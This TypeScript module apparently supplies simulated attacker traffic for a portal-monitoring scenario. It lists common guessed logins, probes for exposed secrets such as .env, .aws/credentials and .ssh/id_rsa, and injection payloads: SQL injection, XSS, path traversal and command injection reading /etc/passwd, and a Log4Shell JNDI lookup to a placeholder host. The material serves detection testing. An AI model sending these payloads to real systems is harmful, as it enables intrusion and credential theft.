/** Names that password guessers try first. */
export const guessedUsers = [
  'root',
  'admin',
  'test',
  'oracle',
  'postgres',
  'ubuntu',
  'git',
  'backup',
  'scada',
  'operator',
  'pi',
  'guest',
] as const;

/** Passwords that guessers try first; none of them is right. */
export const guessedPasswords = ['123456', 'admin', 'password', 'root', 'qwerty', '1q2w3e4r', 'P@ssw0rd'] as const;

/** Paths that the web attacker tries first: what careless sites leave open. The portal has none of them. */
const scannedPaths: readonly string[] = [
  '/.env',
  '/.git/config',
  '/wp-login.php',
  '/phpmyadmin/index.php',
  '/admin/config.php',
  '/server-status',
  '/backup.sql',
  '/cgi-bin/test.cgi',
  '/actuator/env',
  '/solr/admin/info/system',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/.aws/credentials',
  '/manager/html',
  '/HNAP1/',
  '/wp-content/debug.log',
  '/old/index.php',
  '/test.php',
  '/console/login',
  '/jenkins/login',
  '/config.json',
  '/db.sqlite',
  '/.ssh/id_rsa',
  '/uploads/shell.php',
  '/xmlrpc.php',
];

/** What the web attacker tries afterwards: injections into pages that are there. */
const injections: readonly string[] = [
  '/search?q=1%27%20OR%20%271%27%3D%271',
  '/search?q=1%20UNION%20SELECT%20username,password%20FROM%20users--',
  '/search?q=%3Cscript%3Ealert(1)%3C/script%3E',
  '/news?file=../../../../etc/passwd',
  '/search?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.99%2Fa%7D',
  '/news?id=1;cat%20/etc/passwd',
  '/water/bill?id=1%27%20AND%20SLEEP(5)--',
  '/permits?id=-1%20UNION%20ALL%20SELECT%20NULL,NULL,version()--',
];

/** Each request of the web attacker with the name its tool gives itself: an unsuspicious one first. */
export const probes = [
  ...scannedPaths.map((path) => ({ path, agent: 'Mozilla/5.0 (compatible; SiteCheck/1.0)' })),
  ...injections.map((path) => ({ path, agent: 'sqlmap/1.9.4#stable (https://sqlmap.org)' })),
];

/** The attackers of the first minutes, and those who come one by one later. */
export const attackers = {
  guesser: '203.0.113.66',
  prober: '2001:db8:bad::17',
  intruder: '203.0.113.140',
  /** Seen only by a host whose lines anyone could forge: a person decides. */
  unproven: '203.0.113.201',
  later: [
    '203.0.113.71',
    '203.0.113.72',
    '2001:db8:bad::23',
    '203.0.113.74',
    '2001:db8:bad::25',
    '203.0.113.76',
    '203.0.113.77',
    '2001:db8:bad::28',
  ],
} as const;
